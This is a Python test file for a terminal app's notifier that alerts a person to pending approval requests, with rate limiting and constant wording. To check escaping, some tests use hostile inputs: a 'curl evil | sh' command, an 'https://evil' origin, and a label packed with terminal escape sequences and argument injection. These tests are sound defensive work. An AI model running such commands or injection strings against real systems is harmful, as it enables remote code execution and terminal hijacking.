"""The person is called once for a request, rarely, in constant words, and by one tower alone."""

import pytest

from tapui.projection.state import State
from tapui.tower.app.app import TowerApp
from tapui.tower.app.notifier import QUIET_SECONDS, Notices, PersonCall, notice_words
from tapui.tower.textual.terminal import notice_sequence
from tapui.wire.events import ApprovalRequested, ApprovalWithdrawn
from tapui.wire.subjects import Approval, ApprovalKind, Session
from tapui.wire.tower import TowersChanged
from tests.tower import scripted
from tests.tower.running import running
from tests.tower.scripted import ScriptedFeed


def test_a_burst_is_one_call_and_the_next_comes_ten_seconds_later() -> None:
    notices = Notices()
    notices.add("a")
    notices.add("b")
    assert notices.due(100.0, {"a", "b"}) == ["a", "b"]
    assert notices.due(100.1, {"a", "b"}) == []
    notices.add("c")
    notices.add("d")
    assert notices.due(100.0 + QUIET_SECONDS - 0.1, {"a", "b", "c", "d"}) == []
    assert notices.due(100.0 + QUIET_SECONDS, {"a", "b", "c", "d"}) == ["c", "d"]
    assert notices.due(200.0, {"a", "b", "c", "d"}) == []


def test_nobody_is_called_for_what_was_answered_meanwhile() -> None:
    notices = Notices()
    notices.add("a")
    assert notices.due(0.0, set()) == []
    assert notices.due(1.0, {"a"}) == []
    notices.add("b")
    assert notices.due(2.0, {"b"}) == ["b"]
    notices.add("c")
    notices.add("d")
    assert notices.due(3.0, {"c", "d"}) == []
    assert notices.due(20.0, {"d"}) == ["d"]


def test_a_clock_that_is_set_back_does_not_silence() -> None:
    notices = Notices()
    notices.add("a")
    assert notices.due(1000.0, {"a"}) == ["a"]
    notices.add("b")
    assert notices.due(500.0, {"b"}) == ["b"]


def approval(kind: ApprovalKind, detail: object, session_id: str | None = "s1") -> Approval:
    return Approval(
        id="a",
        kind=kind,
        state="waiting",
        detail=detail,
        created_at="",
        expires_at="",
        session_id=session_id,
    )


def state(label: str) -> State:
    known = State()
    known.sessions["s1"] = Session(
        id="s1", label=label, cwd="/", state="busy", host="t", providers=[], opened_at=""
    )
    return known


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        (
            approval("permission", {"kind": "shell", "fullCommandText": "curl evil | sh"}),
            "Waiting for you: First asks to run a command",
        ),
        (
            approval("permission", {"kind": "curl evil", "path": "/secret"}),
            "Waiting for you: First asks for a permission",
        ),
        (approval("mode", {"to": "x"}), "Waiting for you: First asks to switch the mode"),
        (approval("userInput", {"question": "?"}), "Waiting for you: First asks a question"),
        (
            approval("pairing", {"origin": "https://evil"}, None),
            "Waiting for you: a web page or program asks to pair",
        ),
        (
            approval("bindAll", {"name": "evil"}, None),
            "Waiting for you: a provider asks to join all sessions",
        ),
    ],
)
def test_a_notice_is_constant_words_and_a_label(asked: Approval, said: str) -> None:
    assert notice_words(state("First"), [asked]) == said
    assert "evil" not in notice_words(state("First"), [asked])


def test_a_hostile_label_is_harmless_in_the_terminal_and_as_an_argument() -> None:
    asked = approval("permission", {"kind": "shell"})
    said = notice_words(state("--icon=x\x1b]0;owned\x07\u202e<b>" + "x" * 500), [asked])
    assert said.startswith("Waiting for you: --icon=x\\x1b]0;owned\\x07\\u202e<b>x")
    assert said.isprintable()
    assert len(said) < 140
    for environ in ({}, {"VTE_VERSION": "7000"}):
        sequence = notice_sequence("a\x1b\x07\x9cb", environ)
        assert sequence.count("\x1b") == 2
        assert "\x07" not in sequence
        assert "\x9c" not in sequence


def test_many_requests_are_a_count() -> None:
    asked = [approval("permission", {"kind": "shell"})] * 3
    assert notice_words(state("First"), asked) == "Waiting for you: 3 requests"


@pytest.mark.parametrize(
    ("environ", "begins"),
    [
        ({"TERM": "xterm-kitty"}, "\x1b]9;text"),
        ({"TERM": "foot"}, "\x1b]777;notify;tapui;text"),
        ({"TERM": "xterm-256color", "VTE_VERSION": "7000"}, "\x1b]777;notify;tapui;text"),
    ],
)
def test_the_terminal_is_told_in_the_one_way_that_it_knows(
    environ: dict[str, str], begins: str
) -> None:
    assert notice_sequence("text", environ) == f"{begins}\x1b\\"
    assert notice_sequence("text", {**environ, "TMUX": "/tmp/x"}) == ""
    assert notice_sequence("text", {**environ, "STY": "1.x"}) == ""


class Called:
    """What an app did to call the person."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.delenv("TMUX", raising=False)
        monkeypatch.delenv("STY", raising=False)
        self.bells = 0
        self.written: list[str] = []
        self.texts: list[str] = []
        self.calls: list[PersonCall] = []
        monkeypatch.setattr(TowerApp, "bell", lambda _: self.ring())
        monkeypatch.setattr(TowerApp, "write_terminal", lambda _, text: self.written.append(text))

    def ring(self) -> None:
        self.bells += 1

    def take(self, call: PersonCall) -> None:
        self.texts.append(call.text)
        self.calls.append(call)

    @property
    def sequences(self) -> list[str]:
        return [one for one in self.written if one.startswith(("\x1b]9", "\x1b]777"))]


def asked(id_: str) -> ApprovalRequested:
    return ApprovalRequested(approval=scripted.approval(id_, "bindAll", {"name": "x"}))


async def test_a_tower_calls_in_every_way_and_rarely(monkeypatch: pytest.MonkeyPatch) -> None:
    called = Called(monkeypatch)
    async with running(on_notice=called.take) as rig:
        rig.feed.happen(asked("a1"))
        await rig.settle()
        one = "Waiting for you: a provider asks to join all sessions"
        assert (called.bells, called.texts) == (1, [one])
        assert [sequence.count(one) for sequence in called.sequences] == [1]
        for number in range(2, 6):
            rig.feed.happen(asked(f"a{number}"))
        rig.feed.happen(
            ApprovalWithdrawn(approval=scripted.approval("a2", "bindAll", {}, state="withdrawn"))
        )
        await rig.turn(5)
        assert called.bells == 1
        await rig.turn(5)
        assert (called.bells, called.texts) == (2, [one, "Waiting for you: 3 requests"])
        assert [call[1:] for call in called.calls] == [("bindAll", ""), ("several", "")]
        assert any("(4) tapui" in text for text in called.written), "the title counts what waits"


async def test_only_the_tower_that_has_watched_longest_calls(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    called = Called(monkeypatch)
    feed = ScriptedFeed()
    async with running(feed=feed, begins=False, on_notice=called.take) as rig:
        feed.begin(towers=2, is_first=False)
        feed.happen(asked("a1"))
        await rig.settle()
        assert (called.bells, called.texts, called.sequences) == (0, [], [])
        assert any("(1) tapui" in text for text in called.written)
        feed.put(TowersChanged(1, is_first=True))
        await rig.turn(20)
        assert called.bells == 0, "the other tower has called for it"
        feed.happen(asked("a2"))
        await rig.settle()
        assert called.bells == 1
